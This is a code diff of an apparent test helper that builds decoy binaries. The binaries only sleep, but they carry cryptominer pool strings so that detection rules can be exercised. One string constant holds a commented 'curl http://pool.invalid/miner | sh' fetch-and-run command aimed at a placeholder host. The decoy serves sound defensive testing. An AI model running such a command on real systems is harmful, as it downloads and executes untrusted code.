@@ -1,11 +1,13 @@
 """A program that looks like a miner to the rules of docs/agent.md, and only sleeps.
 
-It is the machine's own `sleep` with words behind it, which the loader does not read: nothing has to be compiled, and each has a sum
-of its own.
+`build` makes it of the machine's own `sleep` with words behind it, which the loader does not read: it takes no time, each has a
+sum of its own, and the loader can run it. `compiled` has the words in its code, as a real one.
 """
 
 import hashlib
+import os
 import shutil
+import subprocess
 import sys
 from pathlib import Path
 
@@ -14,13 +16,22 @@ WORDS = b"\0stratum+tcp://pool.invalid:3333\0mining.subscribe\0mining.authorize\
 SCRIPT = "#!/bin/sh\n# curl http://pool.invalid/miner | sh; miner --url stratum+tcp://pool.invalid:3333\nsleep 600; true\n"
 """A script of the same kind."""
 
-COMMAND = (
-    "import os, shutil; "
-    "made = shutil.copy('/bin/sleep', '/tmp/made-up-miner'); "
-    f"open(made, 'ab').write({WORDS!r}); "
-    "os.execv(made, [made, '3600'])"
+SOURCE = """package main
+
+import (
+	"os"
+	"time"
 )
-"""What `python3 -c` runs in a pod to make it and become it."""
+
+func main() {
+	if len(os.Args) > 1 {
+		os.Stdout.WriteString("stratum+tcp://pool.invalid:3333 mining.subscribe mining.authorize donate-level")
+		return
+	}
+	time.Sleep(time.Hour)
+}
+"""
+"""What is compiled."""
 
 
 def build(path: Path, more: bytes = b"") -> str:
@@ -37,4 +48,17 @@ def build(path: Path, more: bytes = b"") -> str:
     with path.open("ab") as file:
         file.write(WORDS + more)
     path.chmod(0o755)
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def compiled(path: Path) -> str:
+    """Compile the program, which needs no library: its SHA-256.
+
+    Args:
+        path: where. The source is written beside it.
+    """
+    source = path.with_suffix(".go")
+    source.write_text(SOURCE)
+    environment = {**os.environ, "CGO_ENABLED": "0", "GOFLAGS": "-trimpath", "GO111MODULE": "off"}
+    subprocess.run(["go", "build", "-ldflags=-s -w", "-o", path, source], cwd=path.parent, env=environment, check=True)
     return hashlib.sha256(path.read_bytes()).hexdigest()
